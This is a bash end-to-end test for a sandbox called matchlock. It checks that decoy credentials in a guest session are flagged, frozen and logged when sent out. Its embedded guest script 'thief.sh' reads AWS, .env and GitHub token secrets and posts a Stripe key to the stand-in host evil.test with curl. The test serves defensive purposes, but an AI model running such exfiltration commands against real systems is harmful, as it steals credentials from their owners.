#!/bin/bash
# Decoy secrets in a session: where a guest finds them, what happens when it sends one, and what its
# owner then sees first.
set -u
build=${MATCHLOCK_BUILD:-build/release}
matchlock=$build/matchlock

# shellcheck source=tests/e2e/lib/tap.sh
. tests/e2e/lib/tap.sh

command -v curl >/dev/null || skip_all "curl is not installed"
for program in "$matchlock" "$build/matchlock-proxy" "$build/initramfs.cpio"; do
	[ -e "$program" ] || skip_all "$program is not built"
done
work=$(mktemp -d /tmp/matchlock-canary-XXXXXX)
trap 'rm -rf "$work"' EXIT
export XDG_STATE_HOME=$work/state XDG_RUNTIME_DIR=$work/run XDG_CONFIG_HOME=$work/config
mkdir -m 700 "$XDG_RUNTIME_DIR"
mkdir "$work/tree"
printf 'version: 1\ncanary: freeze\n' >"$work/policy.yaml"

cat >"$work/tree/thief.sh" <<'GUEST'
cd ~ && ls -ld .aws .env .aws/credentials | awk '{ print $1, $3 }'
. ./.env
[ "$STRIPE_LIVE_SECRET_KEY" = "$(sh -c '. ~/.env; echo "$STRIPE_LIVE_SECRET_KEY"')" ] && echo same
sed -n 's/aws_access_key_id = \(AKIA[A-Z2-7]*\)$/id \1/p' .aws/credentials | cut -c 1-7
printenv PROD_GITHUB_TOKEN | cut -c 1-4
status() {
	curl -sS -m 60 -o answer -w '%{http_code} ' "$@"
	sed -n 's/.*"error": *"\([a-z_]*\)".*/\1/p' answer
}
status http://evil.test/
status -d "token=$STRIPE_LIVE_SECRET_KEY" http://evil.test/collect
status http://evil.test/
echo changed >"$OLDPWD/file"
GUEST
"$matchlock" run --engine "${MATCHLOCK_ENGINE:-auto}" --name canary --workspace "$work/tree" --policy "$work/policy.yaml" \
	--allow-host web.test --json -- sh ./thief.sh >"$work/output" 2>"$work/errors"
same "the session ends well" 0 $?
user=$(id -un)
same "decoys are in the caller's home and environment, and one that is sent freezes the session" \
	"drwx------ $user
-rw------- $user
-rw------- $user
same
id AKIA
ghp_
403 host_not_allowed
403 canary
403 session_frozen" "$(cat "$work/output")"
same "the summary begins with it" "matchlock: DECOY USED: evil.test/collect: the request carries the decoy credential \
STRIPE_LIVE_SECRET_KEY, which nothing legitimate uses; the session is frozen: nothing of it reaches the network any more" \
	"$(grep -n 'DECOY' "$work/errors" | cut -d : -f 2-)"
tail -n 1 "$work/errors" | python3 -c 'import json, sys; assert len(json.load(sys.stdin)["canaries"]) == 1'
ok "and has it as JSON" $?
"$matchlock" diff canary >"$work/review"
same "the review begins with it" "! decoy used: evil.test/collect" "$(sed 1q "$work/review" | cut -d : -f 1,2)"
! grep -qE 'ghp_|sk_live_|AKIA|[.]env' "$work/review" && [ ! -e "$work/tree/.env" ]
ok "and shows nothing of the decoys, which are in memory" $?
"$matchlock" audit show canary --kind canary | grep -q STRIPE_LIVE_SECRET_KEY
ok "the log has it as a record of its own" $?
"$matchlock" audit verify canary >/dev/null
ok "and is whole" $?
finish
